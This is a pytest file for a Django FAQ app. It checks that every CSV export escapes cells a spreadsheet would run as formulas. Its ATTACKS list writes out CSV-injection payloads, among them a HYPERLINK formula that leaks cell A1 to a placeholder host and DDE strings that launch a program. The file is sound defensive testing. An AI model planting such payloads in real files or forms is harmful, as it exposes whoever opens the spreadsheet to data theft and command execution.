"""No CSV that Guichet writes holds a cell a spreadsheet would run as a formula (OWASP "CSV
Injection"): visitors' searches and comments and editors' text are shown, never executed."""

import csv
import io

import pytest
from django.core.management import call_command
from hypothesis import given
from hypothesis import strategies as st

from guichet.exchange.spreadsheet import FORMULA_STARTS, safe_cell
from guichet.faq.services.entries import save_entry
from guichet.feedback.search_log import log_search
from guichet.feedback.services import add_comment, record_vote

ATTACKS = ['=HYPERLINK("http://example.invalid/?"&A1,"Cliquez")', "+33 1 23 45", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1"]


@given(st.text(max_size=30))
def test_a_safe_cell_never_starts_a_formula_and_keeps_the_text(text):
    cell = safe_cell(text)
    assert not (cell and cell[0] in FORMULA_STARTS)
    assert cell == text or cell == "'" + text


def test_numbers_stay_numbers():
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_inert(text: str, where: str) -> None:
    runnable = [cell for cell in _cells(text) if cell and cell[0] in FORMULA_STARTS]
    assert not runnable, (where, runnable)


@pytest.fixture
def hostile_content(demo):
    entry = demo[0]
    for n, attack in enumerate(ATTACKS):
        log_search(attack, {}, 0, None, False)
        record_vote(entry, f"visiteur-{n}", False, attack)
        add_comment(entry, f"visiteur-{n}", attack)
    save_entry(question=ATTACKS[0], answer=ATTACKS[3], keywords=ATTACKS[1], status="published")
    return entry


INSIGHT_TABLES = ["jours", "requetes", "filtres", "manques", "reponses", "jamais-ouvertes", "anciennes", "couverture"]


@pytest.mark.django_db
@pytest.mark.parametrize("table", INSIGHT_TABLES)
def test_every_statistics_table_is_inert_in_a_spreadsheet(editor_client, hostile_content, table):
    response = editor_client.get(f"/gestion/statistiques/?periode=7&tableau={table}&format=csv")
    assert response.status_code == 200
    _assert_inert(response.content.decode(), table)


@pytest.mark.django_db
def test_the_visitors_searches_are_in_the_statistics_as_text(editor_client, hostile_content):
    cells = _cells(editor_client.get("/gestion/statistiques/?periode=7&tableau=requetes&format=csv").content.decode())
    assert "'" + ATTACKS[0] in cells


@pytest.mark.django_db
def test_the_entries_export_is_inert_from_the_back_office_and_the_console(editor_client, hostile_content, tmp_path):
    downloaded = editor_client.get("/gestion/export/csv/").content.decode()
    _assert_inert(downloaded, "back-office")
    assert "'" + ATTACKS[0] in _cells(downloaded)
    call_command("export", str(tmp_path / "faq.csv"), format="csv")
    _assert_inert((tmp_path / "faq.csv").read_text(encoding="utf-8"), "console")
